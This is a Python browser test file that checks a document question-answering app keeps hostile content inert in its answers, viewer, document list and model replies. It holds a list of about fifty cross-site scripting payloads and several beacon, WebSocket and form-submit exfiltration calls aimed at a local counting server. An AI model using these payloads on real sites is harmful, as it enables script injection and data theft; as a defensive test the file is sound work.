"""Documents, their names, a model and the user's own words are text: none runs, none phones out.

Each payload is shown in a real browser: in the answer, the viewer, the list of documents, the question. A
second server on this machine, which every payload names, counts who calls.
"""

import html
import json
import re
import threading
from contextlib import contextmanager
from email.message import EmailMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from index.index import Index
from tests.browser import follow, quiet
from tests.chat_server import ChatServer, serving
from tests.page_server import running_page
from tests.pdf_writer import page as pdf_page
from tests.pdf_writer import write_pdf
from tests.test_page import ask, ready

OWN = "window.owned=1"

# {own} is code that would be noticed, {away} an address that counts its visitors.
PAYLOADS = [
    "<script>{own}</script>",
    "<script src={away}/a.js></script>",
    "<ScRiPt>{own}</sCrIpT>",
    "<<script>{own}//<</script>",
    "</script><script>{own}</script>",
    "</pre></details></div><script>{own}</script>",
    '"><img src=x onerror={own}>',
    "'><img src=x onerror={own}>",
    "<img src={away}/a.png>",
    "<img srcset='{away}/b.png 1x'>",
    "<svg onload={own}></svg>",
    "<svg><image href={away}/c.svg /></svg>",
    "<svg><animate onbegin={own} attributeName=x dur=1s></svg>",
    "<math><mtext><style><img src=x onerror={own}></style></mtext></math>",
    "<iframe src=javascript:parent.{own}></iframe>",
    "<iframe srcdoc='<script>parent.{own}</script>'></iframe>",
    "<object data={away}/d></object>",
    "<embed src={away}/e>",
    "<video autoplay src={away}/f.mp4 onerror={own}></video>",
    "<audio autoplay src={away}/g.mp3></audio>",
    "<body onload={own}>",
    "<meta http-equiv=refresh content='0;url={away}/h'>",
    "<base href={away}/>",
    "<link rel=stylesheet href={away}/i.css>",
    "<style>@import '{away}/j.css'; body {{ background: url({away}/k.png) }}</style>",
    "<div style='position:fixed;inset:0;background:url({away}/l.png)'>cover</div>",
    "<form action={away}/m><button autofocus>Go</button></form>",
    "<input autofocus onfocus={own}>",
    "<details open ontoggle={own}>x</details>",
    "<marquee onstart={own}>x</marquee>",
    "<template><script>{own}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={own}>'>",
    "<a href=javascript:{own}>click</a>",
    "[click](javascript:{own})",
    "![x]({away}/n.png)",
    "![x](/gradio_api/file={away}/o.png)",
    '[x]: {away}/p "t"\n\n![x]',
    "```mermaid\ngraph TD; A[<img src={away}/q.png>] --> B\n```",
    "```html\n<script>{own}</script>\n```",
    "$$\\href{{javascript:{own}}}{{x}}$$ \\(\\includegraphics{{{away}/r.png}}\\)",
    "${{{own}}}",
    "`${{{own}}}`",
    "{{{{constructor.constructor('{own}')()}}}}",
    "\\x3cimg src=x onerror={own}\\x3e",
    "\\u003cscript\\u003e{own}\\u003c/script\\u003e",
    "&lt;script&gt;{own}&lt;/script&gt;",
    "&#60;img src=x onerror={own}&#62;",
    "<!--><script>{own}</script-->",
    "<![CDATA[<script>{own}</script>]]>",
    "{{%0a<script>{own}</script>",
    "\u202e<script>{own}</script>\u2066",
    "[1](#cite-1-1) [99](#cite-99-99)",
    "**bold** <b onclick={own} style=color:red>b</b>",
]


class Visits:
    """A server that counts who calls."""

    def __init__(self, port):
        self.away = f"http://127.0.0.1:{port}"
        self.paths = []


@contextmanager
def counting():
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            if self.path != "/favicon.ico":  # the browser asks for that by itself, whenever it likes
                visits.paths.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args):
            pass

    http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    visits = Visits(http.server_port)
    thread = threading.Thread(target=http.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield visits
    finally:
        http.shutdown()
        http.server_close()
        thread.join()


def filled(payload, visits):
    return payload.format(own=OWN, away=visits.away)


KINDS = ("md", "txt", "csv", "eml", "pdf", "html")  # of the documents, by turns


def word(n):
    """A word that stands in the document of payload n alone."""
    return f"zebra{n:02}"


@pytest.fixture(scope="module")
def visits():
    with counting() as visits:
        yield visits


@pytest.fixture(scope="module")
def folder(tmp_path_factory, visits):
    """An index in which every payload is the words of a document, and half of them are names."""
    folder = tmp_path_factory.mktemp("hostile")
    documents = folder / "documents"
    documents.mkdir()
    for n, payload in enumerate(PAYLOADS):
        said = f"The password of {word(n)} is {filled(payload, visits)} tulip."
        kind = KINDS[n % len(KINDS)]
        if kind == "eml":
            mail = EmailMessage()
            mail["Subject"] = " ".join(said.split()).replace("\u202e", "").replace("\u2066", "")
            mail["From"] = "a@example.org"
            mail.set_content(said)
            (documents / f"{n:02}.eml").write_bytes(bytes(mail))
        elif kind == "csv":
            quoted = said.replace('"', '""')
            (documents / f"{n:02}.csv").write_text(f'name,words\n{n},"{quoted}"\n', encoding="utf-8")
        elif kind == "pdf":
            printed = said.encode("latin-1", "ignore").decode("latin-1")
            (documents / f"{n:02}.pdf").write_bytes(write_pdf(pdf_page(*printed.splitlines())))
        elif kind == "html":
            (documents / f"{n:02}.html").write_text(f"<p>{html.escape(said)}</p>", encoding="utf-8")
        else:
            (documents / f"{n:02}.{kind}").write_text(said, encoding="utf-8")
        name = filled(payload, visits).replace("/", "\u2215").replace("\n", " ").replace("\x00", "")[:120]
        (documents / f"{name}.txt").write_text(f"The colour of {word(n)} is a blue {n}.", encoding="utf-8")
    with Index.open(folder / "index", create=True) as index:
        assert not index.add([documents]).failed
    return folder


@pytest.fixture(scope="module")
def url(folder):
    with running_page(folder / "index", QA_PASSWORD="") as url:
        yield url


@contextmanager
def watched(browser, url, visits):
    """An open page; at the end of the block it must have stayed where it was, and quiet."""
    noticed = []
    before = len(visits.paths)
    page = browser.new_page(viewport={"width": 1400, "height": 860})
    follow(page)
    page.on("dialog", lambda dialog: (noticed.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("popup", lambda popup: noticed.append("a window was opened"))
    page.on("pageerror", lambda error: noticed.append(f"error {error}"))
    page.on("console", lambda said: said.type == "error" and noticed.append(f"console {said.text}"))
    page.on(
        "request",
        lambda request: request.url.startswith((url, "data:", "blob:")) or noticed.append(request.url),
    )
    page.goto(url)
    try:
        ready(page)
        yield page
        quiet(page)
        assert page.evaluate("window.owned") is None, "a script ran"
        assert page.url.rstrip("/") == url.rstrip("/")
        assert noticed == []
        assert visits.paths[before:] == [], "it phoned out"
    finally:
        page.close()


MARKS = "#viewer mark, #viewer .cite-box"
FOREIGN = (
    "iframe, object, embed, video, audio, base[href^='http://127.0.0.1'], form, math, marquee, "
    "svg[onload], [onerror], [onload], [onclick], [onfocus], [ontoggle], [onbegin], a[href^='javascript']"
)


def assert_inert(page):
    for pane in ("#chat", "#viewer", "#sources"):
        found = page.locator(pane).locator(FOREIGN)
        assert found.count() == 0, f"{pane}: {found.first.evaluate('e => e.outerHTML')[:200]}"


@pytest.mark.parametrize("part", range(4))
def test_words_of_documents_are_text(browser, url, visits, part):
    with watched(browser, url, visits) as page:
        for n in range(part, len(PAYLOADS), 4):
            answer = ask(page, f"What is the password of {word(n)}?")
            answer.locator('a[href^="#cite-"], a[href^="#hit-"]').first.dispatch_event("click")
            quiet(page)  # the viewer may show the same place as for the answer before
            expect(page.locator(MARKS).first).to_be_attached()
            assert_inert(page)
            name, title = f"{n:02}.{KINDS[n % len(KINDS)]}", page.get_by_test_id("viewer-title")
            if name not in title.inner_text():  # the reader took a neighbour's word for the better answer
                page.locator(f'#sources [data-source="{name}"] [data-do=open]').click()
                expect(title).to_contain_text(name)
                quiet(page)
                assert_inert(page)


def test_names_of_documents_are_text(browser, url, visits):
    with watched(browser, url, visits) as page:
        rows = page.locator("#sources [data-source]")
        expect(rows.first).to_be_visible()
        assert rows.count() >= 2 * len(PAYLOADS) - 1
        assert_inert(page)
        for n in range(0, len(PAYLOADS), 6):
            answer = ask(page, f"What is the colour of {word(n)}?")
            answer.locator('a[href^="#cite-"]').first.click()
            quiet(page)
            expect(page.get_by_test_id("viewer-title")).to_be_visible()
            assert_inert(page)


def test_questions_are_text(browser, url, visits):
    with watched(browser, url, visits) as page:
        for n in range(0, len(PAYLOADS), 4):
            question = " ".join(" ".join(filled(payload, visits) for payload in PAYLOADS[n : n + 4]).split())
            ask(page, question)
            shown = page.locator("#chat .cs-question").last.inner_text()
            assert " ".join(shown.split()) == question
            assert_inert(page)


def test_words_of_a_model_are_text(browser, folder, visits):
    """A model whose name and whose every sentence is hostile, with quotes that do stand in the documents."""

    def reply(request):
        n = int(re.findall(r"zebra(\d\d)", json.dumps(request["messages"]))[-1])
        quotes = [{"passage": k, "quote": f"password of {word(n)}"} for k in (1, 2, 3)]
        said = f"The model says {filled(PAYLOADS[n], visits)}"
        return json.dumps({"answer": [{"quotes": quotes, "text": said}]})

    with serving(ChatServer(reply=reply)) as server:
        model = f"http://127.0.0.1:{server.port}/v1#<img src=x onerror={OWN}>"
        with (
            running_page(folder / "index", "--model", model, QA_PASSWORD="", QA_MIN_SUPPORT="0") as url,
            watched(browser, url, visits) as page,
        ):
            spoken = 0
            for n in range(0, len(PAYLOADS), 5):
                answer = ask(page, f"What is the password of {word(n)}?")
                spoken += "The model says" in answer.inner_text()
                assert_inert(page)
            assert spoken >= 8  # of 11: the others have no quote among the first passages


def test_the_policy_holds_where_the_escaping_would_not(browser, url, visits):
    """Put into the page by force, the payloads still neither run nor phone out."""
    forced = """html => {
        const box = document.createElement('div'); box.innerHTML = html; document.body.append(box);
        for (const old of box.querySelectorAll('script')) {
            const made = document.createElement('script');
            if (old.src) made.src = old.src; else made.textContent = old.textContent;
            box.append(made);
        }
    }"""
    page = browser.new_page()
    follow(page)
    try:
        page.goto(visits.away)
        page.evaluate(forced, filled("<img src={away}/control.png><script>{own}</script>", visits))
        page.wait_for_function("window.owned === 1")  # without a policy it does run, and phones
        expect(page.locator("img")).to_have_js_property("complete", True)
        assert "/control.png" in visits.paths
        visits.paths.clear()

        page.goto(url)
        ready(page)
        for payload in PAYLOADS:
            if "http-equiv" not in payload and "<form" not in payload:
                page.evaluate(forced, filled(payload, visits))
        for code in (
            "fetch(away + '/x').catch(() => 0)",
            "new WebSocket(away.replace('http', 'ws'))",
            "navigator.sendBeacon(away + '/y', 'x')",
            "new EventSource(away + '/z')",
            "(() => { const f = document.createElement('form'); f.action = away; f.method = 'post';"
            " document.body.append(f); f.submit(); })()",
        ):
            page.evaluate(
                "([code, address]) => { window.away = address; try { eval(code) } catch {} }",
                [code, visits.away],
            )
        page.wait_for_timeout(1000)
        assert page.evaluate("window.owned") is None
        assert visits.paths == []
        assert page.url == url
    finally:
        page.close()
